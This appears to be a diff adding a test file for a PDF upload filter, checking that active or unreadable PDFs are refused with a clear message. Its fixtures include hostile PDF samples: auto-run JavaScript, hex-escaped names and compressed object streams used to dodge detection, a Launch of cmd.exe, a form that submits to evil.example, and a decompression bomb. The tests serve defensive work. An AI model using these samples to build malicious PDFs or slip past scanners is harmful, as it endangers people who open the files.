@@ -1,0 +1,62 @@
+import { deflateSync } from "node:zlib";
+import { isPdf, refuseActivePdf } from "./pdfs";
+
+const pdf = (...parts: (string | Buffer)[]) =>
+  Buffer.concat(["%PDF-1.7\n", ...parts, "\ntrailer\n<</Root 1 0 R>>\n%%EOF"].map((part) => Buffer.from(part)));
+
+const stream = (dictionary: string, content: Buffer | string) =>
+  Buffer.concat(
+    [`9 0 obj\n<<${dictionary}>>\nstream\n`, content, "\nendstream\nendobj\n"].map((part) => Buffer.from(part)),
+  );
+
+const packed = (objects: string, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") =>
+  stream(dictionary, deflateSync(objects));
+
+const script = "1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>\nendobj";
+
+test.each([
+  ["a script that runs when it is opened", pdf(script)],
+  ["a name written by numbers", pdf(script.replace("JavaScript", "J#61vaScrip#74"))],
+  ["a script among packed objects", pdf(packed(`1 0 <</S/JavaScript/JS(app.alert(1))>>`))],
+  ["packed objects that do not say so", pdf(packed("1 0 <</S /Launch /F (cmd.exe)>>", "/N 1 /First 4"))],
+  ["a program", pdf("1 0 obj\n<</A <</S /Launch /F (cmd.exe)>> >>\nendobj")],
+  ["another file", pdf("1 0 obj\n<</Names <</EmbeddedFiles 2 0 R>> >>\nendobj")],
+  ["a form of its own", pdf("1 0 obj\n<</AcroForm <</XFA 2 0 R>> >>\nendobj")],
+  ["a form that sends itself", pdf("1 0 obj\n<</A<</S/SubmitForm/F(https://evil.example)>>>>\nendobj")],
+])("%s is refused with a sentence that says what to do", async (_, bytes) => {
+  await expect(refuseActivePdf(bytes)).rejects.toMatchObject({
+    code: "unsupported_type",
+    message: expect.stringMatching(/^This PDF holds .+\. Print it to a new PDF and attach that\.$/) as string,
+  });
+});
+
+test.each([
+  ["protected by a password", pdf("trailer\n<</Encrypt 5 0 R>>"), "is protected"],
+  ["packed twice", pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", "789c")), "packed"],
+  ["a bomb", pdf(packed(" ".repeat(65 * 1024 * 1024))), "packed"],
+])("what nobody can look into is refused: %s", async (_, bytes, why) => {
+  await expect(refuseActivePdf(bytes)).rejects.toMatchObject({
+    code: "unsupported_type",
+    message: expect.stringContaining(why) as string,
+  });
+});
+
+test.each([
+  ["words about JavaScript in its text", pdf(stream("", "BT (We write JavaScript, see /launches) Tj ET"))],
+  [
+    "links and a first page",
+    pdf("1 0 obj\n<</OpenAction [3 0 R /Fit] /A <</S /URI /URI (https://a.test)>> >>\nendobj"),
+  ],
+  ["ordinary packed objects", pdf(packed("1 0 <</Type /Page /Launcher 1>>"))],
+  [
+    "a picture after an outline",
+    pdf("2 0 obj\n<</First 3 0 R>>\nendobj\n", stream("/Filter /DCTDecode", "\u00ff\u00d8")),
+  ],
+])("%s are no reason", async (_, bytes) => {
+  await expect(refuseActivePdf(bytes)).resolves.toBeUndefined();
+});
+
+test("a PDF is one from its first byte", () => {
+  const answers = ["%PDF-1.4\n", "%PDF-2.0\n", " %PDF-1.4\n", "%PDF-9.9", ""].map((head) => isPdf(Buffer.from(head)));
+  expect(answers).toEqual([true, true, false, false, false]);
+});
